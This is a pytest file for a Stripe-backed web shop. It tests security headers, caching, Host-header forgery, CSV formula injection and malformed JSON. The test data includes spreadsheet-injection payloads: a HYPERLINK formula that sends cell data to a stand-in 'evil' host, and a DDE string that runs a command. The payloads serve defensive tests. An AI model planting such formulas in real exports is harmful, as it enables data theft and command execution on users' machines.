"""SPEC section 8 on every page: security headers, no-store on private pages, the shop's own address
for Stripe's return URLs, formula-safe CSV, and a shopper's 4xx where Stripe answers 4xx."""

from __future__ import annotations

import base64
import csv
import io

import pytest

from shop.config import load
from shop.csv_export import safe_cell
from shop.errors import ConfigError
from shop.stripe_events import parse_metadata_items
from shop.web import SECURITY_HEADERS
from tests.stripe_factory import checkout_session, event
from tests.test_owner_mode import csrf

STANDIN = {"STRIPE_SECRET_KEY": "sk_test_stand_in", "STRIPE_TIMEOUT_SECONDS": 10}
CART = {"items": [{"sku": "balm-tee/M", "quantity": 1}]}


def csp_directives(response) -> dict[str, list[str]]:
    policy = response.headers["Content-Security-Policy"]
    return {d.split()[0]: d.split()[1:] for d in (p.strip() for p in policy.split(";")) if d}


def assert_secure_html(response):
    directives = csp_directives(response)
    for source in ("script-src", "default-src"):
        assert not {"'unsafe-inline'", "'unsafe-eval'", "*"} & set(directives.get(source, [])), source
    assert "script-src" in directives or "default-src" in directives
    assert directives["frame-ancestors"] == ["'none'"]
    assert response.headers["Referrer-Policy"] in ("strict-origin-when-cross-origin", "same-origin", "no-referrer")
    assert response.headers["X-Content-Type-Options"] == "nosniff"


# -- headers -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path, status",
    [
        ("/", 200),
        ("/cart", 200),
        ("/products/balm-tee", 200),
        ("/chapters/chapter-i", 200),
        ("/nowhere", 404),  # an error page
        ("/owner", 308),  # a redirect
        ("/owner/stock", 302),
        ("/owner/login", 200),
        ("/checkout/success?session_id=not-a-session", 400),
        ("/checkout/cancel?order_id=ord_unknown", 404),
    ],
)
def test_every_html_answer_sends_the_security_headers(client, path, status):
    response = client.get(path)
    assert response.status_code == status
    assert response.mimetype == "text/html"
    assert_secure_html(response)


@pytest.mark.parametrize(
    "path, private",
    [
        ("/checkout/success?session_id=cs_test_x", True),
        ("/checkout/cancel?order_id=ord_x", True),
        ("/owner/login", True),
        ("/owner/stock", True),
        ("/api/owner/stock", True),
        ("/", False),
        ("/products/balm-tee", False),
    ],
)
def test_private_pages_are_never_stored(client, path, private):
    response = client.get(path)
    assert (response.headers.get("Cache-Control") == "no-store") is private


def test_owner_pages_and_exports_are_never_stored(client, owner_headers):
    token = csrf(client)
    client.post("/owner/login", data={"password": owner_headers["Authorization"][7:], "csrf_token": token})
    for path in ("/owner/", "/owner/stock", "/owner/orders.csv", "/owner/stock/chapter-i.csv", "/owner/health"):
        response = client.get(path)
        assert response.status_code == 200 and response.headers["Cache-Control"] == "no-store", path
        assert_secure_html(response) if response.mimetype == "text/html" else None
    assert client.get("/api/owner/health", headers=owner_headers).headers["Cache-Control"] == "no-store"


def test_templates_carry_no_inline_script_or_style(client):
    """What the CSP would block: inline scripts, event handlers and style attributes."""
    for path in ("/", "/cart", "/products/balm-tee", "/chapters/chapter-i", "/owner/login", "/nowhere"):
        html = client.get(path).get_data(as_text=True).lower()
        assert " style=" not in html and " onclick=" not in html and " onload=" not in html, path
        for chunk in html.split("<script")[1:]:
            tag = chunk.split(">", 1)[0]
            assert "src=" in tag or 'type="application/json"' in tag, (path, tag)
    assert "'unsafe-inline'" not in SECURITY_HEADERS["Content-Security-Policy"]


# -- PUBLIC_URL and the Host header --------------------------------------------------------------


def checkout_urls(stub) -> tuple[str, str]:
    created = [params for method, path, params in stub.requests if path == "/v1/checkout/sessions"]
    assert created, "no Checkout Session was created"
    return created[-1]["success_url"], created[-1]["cancel_url"]


def stocked(app):
    app.extensions["shop"].inventory.initialize("chapter-i", {"balm-tee/M": 5})
    return app


def test_a_forged_host_never_moves_the_return_urls_off_public_url(make_app, stub):
    app = stocked(make_app(STRIPE_API_BASE=stub.base, PUBLIC_URL="https://shop.example", **STANDIN))
    response = app.test_client().post("/api/checkout", json=CART, headers={"Host": "evil.example"})
    assert response.status_code == 201, response.get_data(as_text=True)
    success, cancel = checkout_urls(stub)
    assert success.startswith("https://shop.example/checkout/success?session_id=")
    assert cancel.startswith("https://shop.example/checkout/cancel?order_id=")


@pytest.mark.parametrize(
    "host, port, base",
    [
        ("evil.example", None, "http://127.0.0.1:5000"),
        ("evil.example:8000", "8000", "http://127.0.0.1:8000"),
        ("127.0.0.1.evil.example", None, "http://127.0.0.1:5000"),
        ("localhost:8000", None, "http://localhost:8000"),
        ("127.0.0.1:8000", "8000", "http://127.0.0.1:8000"),
        ("[::1]:5001", None, "http://[::1]:5001"),
    ],
)
def test_development_without_public_url_trusts_only_loopback_hosts(make_app, stub, host, port, base):
    overrides = {"PORT": port} if port else {}
    app = stocked(make_app(STRIPE_API_BASE=stub.base, **STANDIN, **overrides))
    response = app.test_client().post("/api/checkout", json=CART, headers={"Host": host})
    assert response.status_code == 201, response.get_data(as_text=True)
    success, cancel = checkout_urls(stub)
    assert success.startswith(base + "/checkout/success?") and cancel.startswith(base + "/checkout/cancel?")


@pytest.mark.parametrize("production", [{"APP_ENV": "production"}, {"VERCEL": "1"}])
def test_production_refuses_to_start_without_public_url(production):
    with pytest.raises(ConfigError, match="PUBLIC_URL is required in production"):
        load({"SECRET_KEY": "k" * 40, **production})
    assert load({"SECRET_KEY": "k" * 40, "PUBLIC_URL": "https://shop.example/", **production}).public_url == (
        "https://shop.example"
    )


# -- CSV -----------------------------------------------------------------------------------------

DANGEROUS = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+cmd", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]


def test_safe_cell_neutralizes_formulas_and_keeps_numbers():
    assert [safe_cell(v) for v in DANGEROUS] == ["'" + v for v in DANGEROUS]
    assert [safe_cell(v) for v in (-5, 3, 2.5, "-5", "-1.25", None, "plain", "a=b")] == [
        -5,
        3,
        2.5,
        "-5",
        "-1.25",
        "",
        "plain",
        "a=b",
    ]


@pytest.mark.parametrize("danger", DANGEROUS)
def test_orders_csv_neutralizes_every_prefix_in_name_email_and_address(client, deliver, shop, owner_headers, danger):
    session = checkout_session(items="balm-tee/M")
    session["customer_details"].update(name=danger + " name", email=danger + "@x.example")
    shipping = {
        "name": danger + " ship",
        "address": {
            "line1": danger + " line1",
            "line2": danger + " line2",
            "city": danger + " city",
            "postal_code": "10115",
            "state": None,
            "country": "DE",
        },
    }
    session["collected_information"] = {"shipping_details": shipping}
    session["shipping_details"] = shipping
    assert deliver(event("checkout.session.completed", session)).status_code == 200
    order = shop.orders.page(limit=1)[0][0]
    token = csrf(client)
    client.post("/owner/login", data={"password": owner_headers["Authorization"][7:], "csrf_token": token})
    exported = client.get("/owner/orders.csv").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert len(rows) == 1
    row = rows[0]
    stored = {
        "name": order["customer"]["name"],
        "email": order["customer"]["email"],
        "shipping_name": order["shipping"]["name"],
        "line1": order["shipping"]["address"]["line1"],
        "line2": order["shipping"]["address"]["line2"],
        "city": order["shipping"]["address"]["city"],
    }
    if danger[0] in "\t\r":  # the webhook already trims these from what Stripe sends
        assert all(v.startswith(danger.strip()) for v in stored.values())
    else:  # kept as the shopper typed it, so the export must neutralize it
        assert all(v.startswith(danger[0]) for v in stored.values())
    for column, value in stored.items():
        expected = "'" + value if value.startswith(("=", "+", "-", "@", "\t", "\r")) else value
        assert row[column] == expected, column
        assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert (row["postal_code"], row["country"], row["items"]) == ("10115", "DE", "balm-tee/M*1")


def test_stock_csv_cells_are_safe_and_numbers_stay(client, owner_headers, shop):
    shop.inventory.initialize("chapter-i", {"balm-tee/M": 4})
    token = csrf(client)
    client.post("/owner/login", data={"password": owner_headers["Authorization"][7:], "csrf_token": token})
    rows = list(csv.reader(io.StringIO(client.get("/owner/stock/chapter-i.csv").get_data(as_text=True))))
    assert rows[0] == ["sku", "product", "size", "on_hand", "held", "available"]
    assert ["balm-tee/M", "Balm Tee", "M", "4", "0", "4"] in rows


def test_stock_report_csv_goes_through_the_same_cells(runner, shop, monkeypatch):
    from shop import stock_audit

    real = stock_audit.report

    def with_formula(*args):
        rows = real(*args)
        rows[0]["chapter"] = "=cmd|' /C calc'!A0"
        return rows

    monkeypatch.setattr(stock_audit, "report", with_formula)
    out = runner.invoke(args=["stock", "report", "--csv"]).output
    first = list(csv.reader(io.StringIO(out)))[1]
    assert first[0] == "'=cmd|' /C calc'!A0"


# -- the shopper's 4xx ---------------------------------------------------------------------------


def test_success_page_for_a_session_stripe_does_not_know_is_a_friendly_404(make_app, stub):
    app = make_app(STRIPE_API_BASE=stub.base, PUBLIC_URL="http://127.0.0.1:5000", **STANDIN)
    response = app.test_client().get("/checkout/success?session_id=cs_test_x")
    assert response.status_code == 404
    page = response.get_data(as_text=True)
    assert "could not find this checkout" in page and "Traceback" not in page and "cs_test_x" not in page
    assert response.headers["Cache-Control"] == "no-store"


def test_success_page_when_stripe_fails_is_still_a_5xx_or_what_the_store_knows(make_app, stub):
    app = make_app(STRIPE_API_BASE=stub.base, PUBLIC_URL="http://127.0.0.1:5000", **STANDIN)
    stub.fail_with = "500"
    response = app.test_client().get("/checkout/success?session_id=cs_test_x")
    # Stripe is down: no 404 (the session may well exist); the page says the order is on its way.
    assert response.status_code == 200 and "could not find" not in response.get_data(as_text=True)


def test_metadata_items_take_ascii_digits_only(shop):
    catalog = shop.catalog
    assert parse_metadata_items("balm-tee/L*3", catalog) == {"balm-tee/L": 3}
    for text in ("balm-tee/L*٣", "balm-tee/L*３", "balm-tee/L*²", "balm-tee/L*৩"):
        assert parse_metadata_items(text, catalog) is None, text


@pytest.mark.parametrize("position", [b"0-0", b"18446744073709551616-0", b"0-18446744073709551616", b"1-2-3", b"-1-0"])
def test_odd_ledger_cursors_are_400(client, owner_headers, position):
    cursor = base64.urlsafe_b64encode(position).decode().rstrip("=")
    response = client.get(f"/api/owner/ledger?cursor={cursor}", headers=owner_headers)
    assert response.status_code == 400
    assert response.get_json()["error"] == "cursor is not one this API gave out; start again without it"


def test_deep_json_is_a_clear_400(client, redis_client):
    from tests.stripe_factory import sign

    deep = b"[" * 60_000 + b"]" * 60_000
    checkout = client.post("/api/checkout", data=deep, headers={"Content-Type": "application/json"})
    assert checkout.status_code == 400 and "too large" in checkout.get_json()["error"]  # 120 kB: over 64 KiB
    within = b"[" * 30_000 + b"]" * 30_000
    checkout = client.post("/api/checkout", data=within, headers={"Content-Type": "application/json"})
    assert checkout.status_code == 400 and "nested too deeply" in checkout.get_json()["error"]
    webhook = client.post("/api/webhooks/stripe", data=deep, headers={"Stripe-Signature": sign(deep)})
    assert webhook.status_code == 400 and "nested too deeply" in webhook.get_json()["error"]
    assert redis_client.keys("{shop}:order:*") == []
